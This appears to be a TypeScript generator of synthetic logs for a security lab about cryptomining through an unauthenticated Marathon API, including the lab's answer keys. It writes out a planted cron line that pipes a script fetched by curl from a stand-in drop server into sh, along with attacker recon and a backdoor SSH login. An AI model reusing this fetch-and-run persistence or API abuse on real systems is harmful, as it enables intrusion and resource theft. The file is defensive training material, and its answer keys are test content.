// A scripted incident on the estate, for the lab shipped as a log file ("Who is mining on our
// Mesos agents?"). Marathon's REST API on :8080 has no authentication (no --http_credentials, no
// plugin): every client's request is logged with "-" as the user. A client outside the company's
// networks looks around, creates an app disguised as a metrics agent, scales it to four instances,
// and the tasks (running as root on the agents' own file system, as the command executor does)
// plant a cron job that re-fetches the miner and an SSH key the attacker uses the next day.
//
// Only lines the table (provenance/) can produce are written: Marathon's request log and deployment
// lines, the master's and agents' task lines, cron and sshd. Every event the intrusion causes is
// labelled; the legitimate API traffic around it (marathon-lb, Prometheus, CI deployments) is not.
import type { Host } from "../hosts";
import type { Rng } from "../prng";
import { leaderAt, marathonLeaderAt } from "../lookups";
import { marathon } from "../formats/java";
import { DAY, HOUR, MIN, SEC, haproxyStamp, isoMs } from "../time";
import { type Ctx, masterProc } from "../gen/ctx";
import { atLocal, cronJob, sshSession } from "../gen/linux";
import { resourcesJson } from "../gen/stout";
import { agentProc, launchTask } from "../gen/tasks";

/** the attacker's use of Marathon: API requests, the deployments and tasks they started (on
 *  Marathon, the masters and the agents) */
export const INTRUSION_LABEL = "intrusion";
/** what the tasks left on the agents: each run of the cron job they planted (its `CMD` line) */
export const PERSISTENCE_LABEL = "persistence";
/** the session lines CRON writes around each of those runs (pam_unix opened/closed for root) */
export const PERSISTENCE_SESSION_LABEL = "persistence-session";
/** the attacker's SSH login the next day, through the key the tasks added */
export const LOGIN_LABEL = "attacker-login";

/** what the lab asks for; the lab file's answer keys are checked against these by a test */
export interface MinerFacts {
  attackerIp: string;
  /** the server the planted cron job downloads from */
  dropIp: string;
  app: string;
  /** the Marathon host whose API was used (the Marathon leader then) */
  marathonHost: string;
  /** agents the app's tasks ran on, short names, sorted */
  agents: string[];
  /** the agent the attacker logged in to over SSH the next day */
  sshHost: string;
  instances: number;
}

const APP = "/ops/kube-metrics";
const ATTACKER = "203.0.113.45";
const DROP = "198.51.100.23";
const INSTANCES = 4;
const AKKA = (r: Rng) => `marathon-akka.actor.default-dispatcher-${r.int(2, 24)}`;
const QTP = (r: Rng) => `qtp1213349904-${r.int(30, 61)}`;

/** Jetty's NCSA time stamp: the JVM's clock (so any skew of the host) printed in GMT */
function ncsaDate(h: Host, t: number): string {
  return haproxyStamp(Math.round(t) + h.skewUs).slice(0, -4) + " +0000";
}

interface Request {
  addr: string;
  method: string;
  uri: string;
  status: number;
  bytes: number;
  agent: string;
}

function request(c: Ctx, r: Rng, h: Host, t: number, q: Request): void {
  marathon(c.s, h, t, QTP(r), "marathon.request", {
    ...q,
    user: "-",
    date: ncsaDate(h, t),
    latency: q.method === "GET" ? r.int(2, 60) : r.int(25, 180),
  });
}

/** `{"version":"…","deploymentId":"…"}`: what Marathon answers to a PUT that starts a deployment */
function deploymentReplyBytes(t: number, plan: string): number {
  return JSON.stringify({ version: isoMs(t), deploymentId: plan }).length;
}

/**
 * Legitimate API traffic hangs off the estate's own activity: every marathon-lb "fetching apps" is a
 * GET on the Marathon leader, and every deployment of the estate's apps was started by the CI host.
 * Installed before the other emitters run; writes nothing unless the incident is generated.
 */
export function installMinerHooks(c: Ctx, r: Rng): void {
  const ci = c.f.misc[3];
  c.hooks = {
    lbFetch: (t, lb) => {
      const mh = marathonLeaderAt(c.sc, t);
      request(c, r, mh, t + r.int(3000, 40_000), {
        addr: lb.ip,
        method: "GET",
        uri: "/v2/apps?embed=apps.tasks",
        status: 200,
        bytes: r.int(38_000, 52_000),
        agent: "python-requests/2.21.0",
      });
    },
    deploy: (t, app, mh, plan) => {
      request(c, r, mh, t - r.int(150_000, 900_000), {
        addr: ci.ip,
        method: "PUT",
        uri: `/v2/apps${app}`,
        status: 200,
        bytes: deploymentReplyBytes(t, plan),
        agent: "curl/7.58.0",
      });
    },
  };
}

/** Prometheus' Marathon service discovery on the monitoring host, every 5 minutes */
function prometheus(c: Ctx, r: Rng): void {
  const mon = c.f.misc[2];
  const phase = r.int(0, 299) * SEC;
  for (let t = c.sc.W + phase; t < c.sc.E; t += 5 * MIN) {
    request(c, r, marathonLeaderAt(c.sc, t), t + r.int(0, 900_000), {
      addr: mon.ip,
      method: "GET",
      uri: "/v2/apps/?embed=apps.tasks",
      status: 200,
      bytes: r.int(38_000, 52_000),
      agent: "Prometheus/2.45.0",
    });
  }
}

function deployment(c: Ctx, r: Rng, mh: Host, t: number, plan: string): number {
  const th = AKKA(r);
  marathon(c.s, mh, t, th, "marathon.planReceived", { plan, targets: APP });
  marathon(c.s, mh, (t += r.int(1500, 4000)), th, "marathon.planStored", { plan, targets: APP });
  marathon(c.s, mh, (t += r.int(500, 1500)), th, "marathon.launchingDeployment", { plan, targets: APP });
  return t;
}

export function emitMarathonMiner(c: Ctx, r: Rng): MinerFacts {
  const { sc, f } = c;
  prometheus(c, r.fork("prometheus"));

  c.s.labelling = INTRUSION_LABEL;
  // Tuesday night (UTC), when nobody watches: look around, create, then scale
  let t = sc.W + DAY + 1 * HOUR + 52 * MIN + r.int(0, 600) * SEC;
  const mh = marathonLeaderAt(sc, t);
  const L = leaderAt(sc, t);
  if (!L || leaderAt(sc, t + 2 * HOUR) !== L || marathonLeaderAt(sc, t + 2 * HOUR) !== mh)
    throw new Error("labgen: the miner incident needs one Mesos and one Marathon leader throughout");
  const m = masterProc(c, L, r);
  const recon = (uri: string, bytes: number, agent = "curl/7.68.0") =>
    request(c, r, mh, (t += r.int(4_000_000, 40_000_000)), { addr: ATTACKER, method: "GET", uri, status: 200, bytes, agent });
  recon("/v2/info", r.int(1900, 2300));
  recon("/v2/apps", r.int(36_000, 50_000));
  recon("/v2/tasks", r.int(9_000, 14_000));
  t += r.int(9 * MIN, 16 * MIN);

  // candidates: agents that are up and stay up (not the one that joins mid-window)
  const up = f.agents.filter((a) => [t, t + 2 * HOUR].every((u) => agentProc(c, r, a, u) !== null));
  const chosen = r.shuffle(up).slice(0, INSTANCES);
  if (chosen.length < INSTANCES) throw new Error("labgen: not enough agents up for the miner incident");
  const fw = sc.frameworkId;
  const res = resourcesJson([
    { name: "cpus", scalar: 4, role: "*" },
    { name: "mem", scalar: 2048, role: "*" },
  ]);
  const launchOn = (a: Host, u: number) => {
    const ap = agentProc(c, r, a, u)!.p;
    const offer = `${L.id}-O${r.int(100, 99999)}`;
    const th = AKKA(r);
    marathon(c.s, mh, u - r.int(300, 900), th, "marathon.matchedOffer", { offer, app: APP });
    const task = `${APP.slice(1).replace(/\//g, "_")}.${r.uuid1()}`;
    return launchTask(c, r, u, { L, m, a, ap, task, res, cid: r.uuid(), execPort: r.int(33000, 45999), offer });
  };

  // POST /v2/apps: a new app is a plan of StartApplication (0 instances) then ScaleApplication
  const plan1 = fw.slice(0, 2) + r.uuid().slice(2);
  request(c, r, mh, t, {
    addr: ATTACKER,
    method: "POST",
    uri: "/v2/apps",
    status: 201,
    bytes: r.int(1350, 1650),
    agent: "python-requests/2.25.1",
  });
  let u = deployment(c, r, mh, t + r.int(20, 80) * 1000, plan1);
  const th = AKKA(r);
  marathon(c.s, mh, (u += r.int(100, 400)), AKKA(r), "marathon.startZero", { app: APP });
  marathon(c.s, mh, (u += r.int(50, 300)), th, "marathon.startAbout", { target: 1, launched: 0, scaleTo: 1 });
  marathon(c.s, mh, (u += r.int(50, 300)), th, "marathon.startInit", { app: APP, toStart: 1 });
  u = launchOn(chosen[0], u + r.int(1, 4) * SEC);
  marathon(c.s, mh, (u += r.int(200, 900)), AKKA(r), "marathon.startDone", { count: 1, app: APP });
  marathon(c.s, mh, (u += r.int(200, 900)), AKKA(r), "marathon.planRemoved", { plan: plan1, targets: APP });

  // PUT /v2/apps/ops/kube-metrics {"instances": 4}: scaling only
  t = u + r.int(17 * MIN, 26 * MIN);
  const plan2 = fw.slice(0, 2) + r.uuid().slice(2);
  request(c, r, mh, t, {
    addr: ATTACKER,
    method: "PUT",
    uri: `/v2/apps${APP}`,
    status: 200,
    bytes: deploymentReplyBytes(t, plan2),
    agent: "python-requests/2.25.1",
  });
  u = deployment(c, r, mh, t + r.int(20, 80) * 1000, plan2);
  const th2 = AKKA(r);
  marathon(c.s, mh, (u += r.int(50, 300)), th2, "marathon.startAbout", { target: INSTANCES - 1, launched: 1, scaleTo: INSTANCES });
  marathon(c.s, mh, (u += r.int(50, 300)), th2, "marathon.startInit", { app: APP, toStart: INSTANCES - 1 });
  let last = u;
  for (const a of chosen.slice(1)) last = Math.max(last, launchOn(a, (u += r.int(1, 6) * SEC)));
  marathon(c.s, mh, (last += r.int(200, 900)), AKKA(r), "marathon.startDone", { count: INSTANCES - 1, app: APP });
  marathon(c.s, mh, (last += r.int(200, 900)), AKKA(r), "marathon.planRemoved", { plan: plan2, targets: APP });

  c.s.labelling = PERSISTENCE_SESSION_LABEL;
  // each task writes root's crontab on its agent: every 30 minutes (agent's local clock), re-fetch
  const cmd = `pgrep -f kube-metrics >/dev/null || curl -fsSL http://${DROP}/km.sh | sh`;
  for (const a of chosen) {
    const from = sc.W + Math.floor((t - sc.W) / DAY) * DAY;
    for (let d = 0; from + d * DAY < sc.E; d++)
      for (let k = 0; k < 48; k++) {
        const at = atLocal(a, from + d * DAY, k * 30 * MIN) + r.int(200, 900) * 1000;
        if (at <= t + 5 * MIN) continue;
        const first = c.s.size;
        cronJob(c, a, at, cmd);
        // the run itself is the persistence; the session lines around it are CRON's bookkeeping
        for (let i = first; i < c.s.size; i++) if (c.s.tpl[i] === "cron.cmd") c.s.labels.set(i, PERSISTENCE_LABEL);
      }
  }

  c.s.labelling = LOGIN_LABEL;
  // Wednesday afternoon: back in through the key the task added to /root/.ssh/authorized_keys
  const sshHost = chosen[r.int(0, INSTANCES - 1)];
  sshSession(c, r, sc.W + 2 * DAY + 13 * HOUR + r.int(0, 3600) * SEC, sshHost, "root", ATTACKER, r.int(4, 11) * MIN, "RSA");
  c.s.labelling = null;

  return {
    attackerIp: ATTACKER,
    dropIp: DROP,
    app: APP,
    marathonHost: mh.name,
    agents: chosen.map((a) => a.name).sort(),
    sshHost: sshHost.name,
    instances: INSTANCES,
  };
}
